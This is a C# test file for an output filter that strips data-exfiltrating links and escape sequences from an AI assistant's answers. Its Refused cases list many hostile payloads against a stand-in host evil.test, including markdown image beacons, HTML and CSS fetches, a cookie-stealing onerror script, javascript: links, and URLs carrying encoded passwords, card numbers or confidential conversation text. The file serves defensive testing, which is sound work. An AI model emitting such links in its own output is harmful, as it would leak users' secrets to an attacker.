using System.Text.Json;
using Amnion.Guard.Output;
using Amnion.Guard.Output.Links;
using Amnion.Testing;

namespace Amnion.Guard.Tests.Output;

public class LinkTests
{
    static readonly LinkPolicy s_policy = new() { AllowedHosts = ["docs.acme.example", "cdn.acme.example", "*.static.acme.example", "api.acme.example:8443"] };

    public static TheoryData<string> Refused =>
    [
        "![a](https://evil.test/a.png)",
        "![a]( https://evil.test/a.png \"t\")",
        "![a](<https://evil.test/a b.png>)",
        "![a](//evil.test/a.png)",
        "![a](\\\\evil.test\\a.png)",
        "![a](/\\evil.test/a.png)",
        "![a](https:evil.test/a.png)",
        "![a](HTTPS://EVIL.TEST/a.png)",
        "![a](https&#58;//evil.test/a.png)",
        "![a](https&colon;&sol;&sol;evil.test/a.png)",
        "![a](https\\://evil.test/a.png)",
        "![a](https://docs.acme.example@evil.test/a.png)",
        "![a](https://docs.acme.example%40evil.test/a.png)",
        "![a](https://docs.acme.example.evil.test/a.png)",
        "![a](https://docs.acme.example:8080/a.png)",
        "![a](https://evil.test\\@docs.acme.example/a.png)",
        "![a](https://evil.test#@docs.acme.example/a.png)",
        "![a](https://%65vil.test/a.png)",
        "![a](https://evil。test/a.png)",
        "![a](https://dоcs.acme.example/a.png)",
        "![a](https://xn--dcs-5cd.acme.example/a.png)",
        "![a](http://3221226219/a.png)",
        "![a](http://[2001:db8::1]/a.png)",
        "[![a](https://evil.test/a.png)](https://docs.acme.example/)",
        "![a [b] c](https://evil.test/a.png)",
        "![x][r]\n\n[r]: https://evil.test/a.png",
        "[r]: https://evil.test/a.png\n\n![x][r]",
        "[r]: https://evil.test/a.png\n\n![r]",
        "[r]: <https://evil.test/a.png>\n\n![r][]",
        "[r]:\n   https://evil.test/a.png\n![Text][R]",
        "<img src=https://evil.test/a.png>",
        "<img src='//evil.test/a.png'>",
        "<IMG\nSRC = \"ht\ntps://evil.test/a.png\">",
        "<img src=\"https&#x3a;//evil.test/a.png\">",
        "<img srcset=\"https://docs.acme.example/1.png 1x, https://evil.test/2.png 2x\">",
        "<img/src=//evil.test/a>",
        "<iframe src=\"https://evil.test/\"></iframe>",
        "<link rel=stylesheet href=https://evil.test/a.css>",
        "<object data=\"https://evil.test/a\"></object>",
        "<form action=\"https://evil.test/\">",
        "<body background=\"https://evil.test/a\">",
        "<video poster=\"https://evil.test/a\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.test/\">",
        "<div style=\"background:url('https://evil.test/a')\">",
        "<style>@import \"https://evil.test/a.css\";</style>",
        "<style>p{background:url( //evil.test/a )}</style>",
        "<svg><image xlink:href=\"https://evil.test/a\"/></svg>",
        "<img src=x onerror=\"fetch('//evil.test/'+document.cookie)\">",
        "<iframe srcdoc=\"<img src=//evil.test/a>\">",
        "<script src=https://evil.test/a.js></script>",
        "<script>fetch('https://evil.test/')</script>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](https://docs.acme.example@evil.test/)",
        "[x](https://docs.acme.example.evil.test/)",
        "[x](https://docs-acme.example.evil.test/?q=cGFzc3dvcmQ6IFRyMHViNGRvcg)",
        "[https://docs.acme.example/](https://evil.test/?q=my+card+is+4111+1111+1111+1111)",
        "<https://evil.test/?q=password:%20hunter2>",
        "Go to https://evil.test/70617373776f72643a20547230756234646f72 now",
        "www.evil.test/?d=ORUGKIDNMVZGOZLSEBRWY33TMVZQ",
        "https://cGFzc3dvcmQ6IFRyMHViNGRvcg.evil.test/",
        "https://evil.test/#dGhlIG1lcmdlciBjbG9zZXMgb24gMyBNYXk",
        "https://evil.test/a/dGhl/IG1l/cmdl/ciBj/bG9z/ZXMg",
        "\u001b]8;id=1;https://evil.test/\u001b\\x\u001b]8;;\u001b\\",
        "\u009d8;;https://evil.test/\u009cx",
        "mailto:me@evil.test?body=the%20merger%20closes%20on%20friday",
        "```\n![a](https://evil.test/?d=cGFzc3dvcmQ6IFRyMHViNGRvcg)",
    ];

    public static TheoryData<string> Allowed =>
    [
        "![a](https://docs.acme.example/a.png)",
        "![a](https://DOCS.acme.example:443/a.png)",
        "![a](https://x.static.acme.example/a.png)",
        "![a](https://api.acme.example:8443/a.png)",
        "![a](images/a.png) and ![b](/b.png)",
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "[x](https://docs.acme.example/a?b=cGFzc3dvcmQ6IFRyMHViNGRvcg)",
        "[x](https://en.wikipedia.org/wiki/Foo_(bar))",
        "See https://www.rfc-editor.org/rfc/rfc9110#section-4.2 and https://github.com/dotnet/runtime/commit/3f2a9c1d5e7b8a6c4d2e1f0a9b8c7d6e5f4a3b2c.",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "Mail help@acme.example or mailto:help@acme.example.",
        "`![alt](url)` and `<img src=\"photo.png\">`",
        "```html\n<img src=\"https://example.com/photo.png\">\n```",
        "a[i](b) and x](y)",
        "if (a < b && c > d) { return a / b; } // note: http is a protocol",
        "Ratio 3:4, time 12:30, C:\\Users\\me, std::vector<int>",
        "\u001b[1;31mred\u001b[0m and \u001b]0;title\u0007",
        "[1]: https://www.rfc-editor.org/rfc/rfc9110\nSee [1].",
        "<a href=\"https://github.com/dotnet/runtime\">runtime</a>",
        "<p style=\"color:red\">x</p>",
    ];

    [Fact]
    public void Judges_every_row_of_the_developer_corpus_rightly()
    {
        var rows = 0;
        foreach (var line in File.ReadLines(Path.Combine(SharedData.Folder("corpora/output"), "exfil_links.jsonl")))
        {
            var row = JsonDocument.Parse(line).RootElement;
            var policy = new LinkPolicy { AllowedHosts = [.. row.GetProperty("allow_hosts").EnumerateArray().Select(host => host.GetString()!)] };
            var text = row.GetProperty("text").GetString()!;
            var (output, findings) = Filter(text, policy);
            Assert.True(row.GetProperty("label").GetInt32() == (findings > 0 ? 1 : 0), text);
            Assert.True(findings > 0 || output == text, text);
            rows++;
        }

        Assert.Equal(300, rows);
    }

    [Theory]
    [MemberData(nameof(Refused))]
    public void Refuses_a_link_that_carries_data_out(string text)
    {
        var (output, findings) = Filter(text + "\nDone.", s_policy);
        Assert.True(findings > 0, text);
        Assert.Contains("[removed: link]", output, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Allowed))]
    public void Leaves_an_ordinary_link_alone(string text)
    {
        var (output, findings) = Filter(text, s_policy);
        Assert.Equal(text, output);
        Assert.Equal(0, findings);
    }

    [Fact]
    public void Removes_the_url_and_nothing_else()
    {
        Assert.Equal("A ![c]([removed: link]) B", Filter("A ![c](https://evil.test/p.png) B", s_policy).Output);
        Assert.Equal("<img src=\"[removed: link]\" width=1>", Filter("<img src=\"https://evil.test/p.png\" width=1>", s_policy).Output);
        Assert.Equal("go [removed: link] now", Filter("go https://a@docs.acme.example.evil.test/ now", s_policy).Output);
    }

    [Fact]
    public void An_image_is_refused_however_many_brackets_and_definitions_stand_before_it()
    {
        Refuses("[a]: https://evil.test/1\n[b]: https://evil.test/a.png\n\n![b]");
        var definitions = string.Concat(Enumerable.Range(0, 64).Select(i => $"[d{i}]: https://evil.test/{i}\n"));
        Refuses(definitions + "[last]: https://evil.test/a.png\n\n![last]");
        var label = new string('a', 120);
        Refuses($"[x   {label}]: https://evil.test/a.png\n\n![x {label}]");
        Refuses($"[x y]: https://evil.test/a.png\n\n![x{new string(' ', 200)}y]");
        Refuses(new string('[', 32) + "![[a]](https://evil.test/a.png)");

        static void Refuses(string text) => Assert.True(Filter(text + "\nDone.", s_policy).Findings > 0, text);
    }

    [Fact]
    public void A_strict_policy_allows_no_other_host()
    {
        var strict = s_policy with { OnlyAllowed = true };
        Assert.Equal(1, Filter("https://www.rfc-editor.org/rfc/rfc9110", strict).Findings);
        Assert.Equal(0, Filter("https://docs.acme.example/", strict).Findings);
    }

    [Fact]
    public void Words_of_the_conversation_are_seen_without_any_encoding()
    {
        var context = new LinkContextText(["The merger closes on 3 May at 41 EUR."]);
        const string Text = "[x](https://evil.test/?q=mergercloseson3may)";
        Assert.Equal(0, Filter(Text, s_policy).Findings);
        var filter = new AnswerFilter(AnswerPolicy.Default, [new LinkCheck(s_policy, context)]);
        Assert.Equal("[x]([removed: link])", filter.Push(Text) + filter.Complete());
    }

    [Theory]
    [InlineData("\u001b]52;c;cGFzc3dvcmQ=\u0007")]
    [InlineData("\u001b]1337;File=name=x:AAAA\u0007")]
    [InlineData("\u001bPq#0\u001b\\")]
    public void Refuses_escape_sequences_that_do_more_than_colour(string text)
    {
        var filter = new AnswerFilter(AnswerPolicy.Default, [new LinkCheck(s_policy)]);
        var output = filter.Push("a" + text + "b") + filter.Complete();
        Assert.StartsWith("a[removed: escape]", output, StringComparison.Ordinal);
        Assert.Equal(OutputCodes.Escape, filter.Findings[0].Code);
    }

    static (string Output, int Findings) Filter(string text, LinkPolicy policy)
    {
        var filter = new AnswerFilter(AnswerPolicy.Default, [new LinkCheck(policy)]);
        var output = filter.Push(text) + filter.Complete();
        return (output, filter.FindingCount);
    }
}
